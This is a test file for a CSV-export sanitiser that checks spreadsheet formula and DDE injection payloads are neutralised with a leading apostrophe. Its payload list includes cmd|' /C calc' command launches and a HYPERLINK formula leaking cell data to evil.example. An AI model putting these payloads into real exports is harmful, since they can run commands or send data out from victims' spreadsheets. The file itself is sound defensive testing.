import { expect } from '@open-wc/testing';
import { csvCell, parseCsv } from '../src/files.js';

// The payloads of OWASP's CSV injection page and of the usual cheat sheets: each would run as a
// formula (or a DDE command) if a spreadsheet read the cell as it is.
const payloads = [
  '=1+2',
  "=cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  '=HYPERLINK("http://evil.example/?leak="&A1&A2, "Error: please click for further information")',
  "+1+cmd|' /C calc'!A0",
  "-1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '@SUM(1+1)',
  "\t=cmd|' /C calc'!A0",
  "\r=cmd|' /C calc'!A0",
  "\n-3+3+cmd|' /C calc'!E2",
  "  =cmd|' /C calc'!A0",
  '＝1+2',
  '=1+2";=1+2',
  '=1+2\'" ;,=1+2',
];

/** What a spreadsheet finds in the cell: the CSV line read back, with either separator. */
const readBack = (cell: string) => parseCsv(`${cell},x\r\n`)[0][0];

describe('csvCell (@devisus/core/files)', () => {
  for (const payload of payloads)
    it(`defuses ${JSON.stringify(payload)}`, () => {
      const cell = readBack(csvCell(payload));
      // The apostrophe makes the spreadsheet take the cell as text; the text itself is kept whole.
      expect(cell).to.equal(`'${payload}`);
    });

  it('quotes a cell that holds a separator, a quote or a line break, so it stays one cell', () => {
    for (const text of ['a,b', 'a;b', 'say "hi"', 'two\nlines'])
      expect(parseCsv(`${csvCell(text)};${csvCell('next')}\r\n`)[0]).to.deep.equal([text, 'next']);
  });

  it('leaves numbers as numbers, negative ones too, and plain text as it is', () => {
    for (const text of ['-1', '-2.5', '-.5', '1e-3', '42', 'hello', 'e-mail', 'a=b', 'x-1'])
      expect(csvCell(text)).to.equal(text);
    expect(readBack(csvCell('-0,5'))).to.equal('-0,5');
    // A sign before digits is a formula to some spreadsheets.
    expect(csvCell('+3')).to.equal("'+3");
  });
});
